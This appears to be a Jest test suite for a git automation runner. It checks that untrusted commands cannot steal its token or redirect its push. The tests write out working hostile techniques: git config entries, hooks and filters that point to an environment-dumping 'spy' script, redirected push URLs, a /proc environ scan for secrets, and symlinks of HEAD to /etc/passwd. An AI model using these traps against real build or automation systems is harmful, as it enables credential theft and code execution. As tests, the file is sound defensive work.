import { chmod, mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";

import { afterEach, beforeEach, describe, expect, it } from "@jest/globals";

import { startGitServer } from "../../demo/git-server.ts";
import type { GitServer } from "../../demo/git-server.ts";
import { git, openRunRoom, TOKEN } from "../support/run-room.ts";
import type { RunRoom } from "../support/run-room.ts";
import { temporaryFolder } from "../support/temporary.ts";

const BRANCH = "forgehand/automation-1/7-fix-it";

let room: RunRoom;
let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let elsewhere: GitServer;
/** A program that leaves a file with its whole environment when somebody starts it. */
let spy: string;
let seen: string;

beforeEach(async () => {
  room = await openRunRoom();
  folder = await temporaryFolder();
  seen = join(folder.path, "seen");
  spy = join(folder.path, "spy");
  await mkdir(seen);
  await writeFile(spy, `#!/bin/sh\n{ echo "$0 $*"; env; } > ${seen}/spied-$$\ncat\n`);
  await chmod(spy, 0o755);
  await mkdir(join(folder.path, "octo/hello.git"), { recursive: true });
  await git(join(folder.path, "octo/hello.git"), "init", "--quiet", "--bare");
  elsewhere = await startGitServer({ root: folder.path });
});
afterEach(async () => {
  await elsewhere.close();
  await folder[Symbol.asyncDispose]();
  await room.close();
});

/** What the spy saw after the command was over; while it works its own git may well run its own programs. */
const spied = async (): Promise<string> => {
  const texts = (await readdir(seen)).map((name) => readFile(join(seen, name), "utf8"));
  return (await Promise.all(texts)).join("\n");
};

/** Work on a run of this shell text, forgetting at its end what its own git started. */
const perform = (...lines: string[]) => room.perform({ run: [...lines, `rm -f ${seen}/spied-*`].join("\n") });

describe("a command that writes into its clone what git would act on", () => {
  it("sees no token, runs nothing in our git, and cannot move the push", async () => {
    const run = await perform(
      `git config url.${elsewhere.url}/.insteadOf "$(git config remote.origin.url | sed 's,octo/.*,,')"`,
      `git config url.${elsewhere.url}/.pushInsteadOf "$(git config remote.origin.url | sed 's,octo/.*,,')"`,
      `git config remote.origin.pushurl ${elsewhere.url}/octo/hello.git`,
      `git config http.proxy ${elsewhere.url}`,
      `git config credential.helper '!${spy}'`,
      `git config core.askPass ${spy}`,
      `git config core.fsmonitor ${spy}`,
      `git config core.sshCommand ${spy}`,
      `git config core.editor ${spy}`,
      `git config gpg.program ${spy}`,
      `git config commit.gpgSign true`,
      `git config uploadpack.packObjectsHook ${spy}`,
      `git config filter.spy.clean ${spy}`,
      `git config filter.spy.smudge ${spy}`,
      `git config filter.spy.process ${spy}`,
      `git config diff.spy.textconv ${spy}`,
      `git config merge.spy.driver ${spy}`,
      "printf '* filter=spy diff=spy merge=spy\\n' > .gitattributes",
      "mkdir -p .git/info && cp .gitattributes .git/info/attributes",
      `mkdir -p hooks && for hook in pre-commit pre-push post-index-change reference-transaction post-checkout pre-auto-gc fsmonitor-watchman; do cp ${spy} hooks/$hook; done`,
      "cp -r hooks .git/hooks; git config core.hooksPath hooks",
      `cp .git/config "$HOME/.gitconfig"`,
      "echo changed >> README.md",
      // The traps are live: the command's own git falls into them.
      `git status >/dev/null 2>&1 || true; test -n "$(ls ${seen})"`,
    );
    expect(run).toMatchObject({ state: "succeeded", branch: BRANCH });
    expect(await spied()).toBe("");
    expect(await room.git("show", `${BRANCH}:README.md`)).toBe("hello\nchanged");
    expect(elsewhere.requests).toEqual([]);
    expect(await room.log(run)).not.toContain(TOKEN);
  });

  it("sees no token in any program of the machine while it works", async () => {
    // Git of another test that works at the same time goes to another address. The decoy shows that one would be found.
    const run = await room.perform({
      run: `
        ours=FORGEHAND_GIT_ORIGIN=$(git config remote.origin.url | sed 's,/octo/.*,,')
        env "$ours" sleep 60 &
        until grep -qsz -x "$ours" /proc/$!/environ; do :; done
        for pid in $(grep -lsz -x "$ours" /proc/[0-9]*/environ | tr -dc '0-9\\n'); do
          [ "$pid" = $! ] && echo "found the decoy" || echo "found $pid"
        done
        kill $!`,
    });
    const found = (await room.log(run)).split("\n").filter((line) => line.startsWith("found"));
    expect(found).toEqual(["found the decoy"]);
  });

  it("does not make us run git in a repository inside of its own", async () => {
    const run = await perform(
      "git init -q nested && cd nested && git -c user.name=x -c user.email=x@example.com commit -q --allow-empty -m x",
      `git config core.fsmonitor ${spy}; git config core.hooksPath ${folder.path}; cp ${spy} .git/hooks-post`,
      `git config filter.spy.clean ${spy}; echo '* filter=spy' > .gitattributes; touch file`,
      "cd .. && git add nested 2>/dev/null && git commit -qm 'Add nested' && touch nested/more new",
    );
    expect(run.state).toBe("succeeded");
    expect(await spied()).toBe("");
  });

  it("does not make us follow its alternates", async () => {
    await using other = await temporaryFolder();
    await git(other.path, "init", "--quiet");
    await git(other.path, "commit", "--quiet", "--allow-empty", "--message", "private");
    const run = await perform(
      `echo ${other.path}/.git/objects > .git/objects/info/alternates`,
      `echo ${await git(other.path, "rev-parse", "HEAD")} > .git/refs/heads/stolen`,
      "echo 'ref: refs/heads/stolen' > .git/HEAD",
    );
    expect(run).toMatchObject({
      state: "errored",
      reason: expect.stringContaining("commits that git does not accept"),
    });
    expect(await room.git("branch", "--list", "forgehand/*")).toBe("");
  });

  it("does not make us follow a link in the place of its objects", async () => {
    const run = await perform(
      "git commit -q --allow-empty -m Hidden",
      "mv .git/objects ../moved && ln -s ../../moved .git/objects",
    );
    expect(run).toMatchObject({
      state: "errored",
      reason: expect.stringContaining("commits that git does not accept"),
    });
  });

  it.each([
    ["a link in the place of its HEAD", "rm .git/HEAD; ln -s /etc/passwd .git/HEAD"],
    ["a pipe in the place of its HEAD", "rm .git/HEAD; mkfifo .git/HEAD"],
    ["a HEAD that leads out of its git dir", "echo 'ref: refs/../../../../secret' > .git/HEAD"],
    [
      "a HEAD that leads to itself",
      "echo 'ref: HEAD' > .git/HEAD; echo 'ref: refs/heads/a' > .git/refs/heads/a",
    ],
    ["a file in the place of its git dir", "rm -rf .git; echo 'gitdir: /tmp' > .git"],
    ["a link in the place of its git dir", "mv .git ../moved; ln -s ../moved .git"],
  ])("is not followed by way of %s: only its files count", async (_, line) => {
    const run = await perform("git commit -q --allow-empty -m Hidden", line, "touch new");
    expect(run).toMatchObject({ state: "succeeded", branch: BRANCH });
    expect(await room.git("log", "--format=%s", `main..${BRANCH}`)).toBe("Fix it");
  });

  it("cannot pass on an object that git would refuse from anybody else", async () => {
    const run = await perform(
      "blob=$(echo x | git hash-object -w --stdin)",
      // A tree with an entry named `.git`: git refuses to make it, so it is written by hand.
      `node -e 'process.stdout.write(Buffer.concat([Buffer.from("100644 .git\\0"), Buffer.from(process.argv[1], "hex")]))' $blob > ../raw`,
      "tree=$(git hash-object -t tree --literally -w ../raw)",
      "git update-ref HEAD $(git commit-tree $tree -p HEAD -m Hostile)",
    );
    expect(run).toMatchObject({
      state: "errored",
      reason: expect.stringContaining("commits that git does not accept"),
    });
    expect(run.reason).toContain("hasDotgit");
  });

  it("cannot write into the mirror that later runs begin from", async () => {
    await perform(
      "chmod -R u+w .git/objects; find .git/objects -type f -exec sh -c 'echo broken > \"$1\"' _ {} \\;",
    );
    const run = await room.perform({ name: "automation-1", run: "touch new" }, {});
    expect(run.state).toBe("succeeded");
  });
});
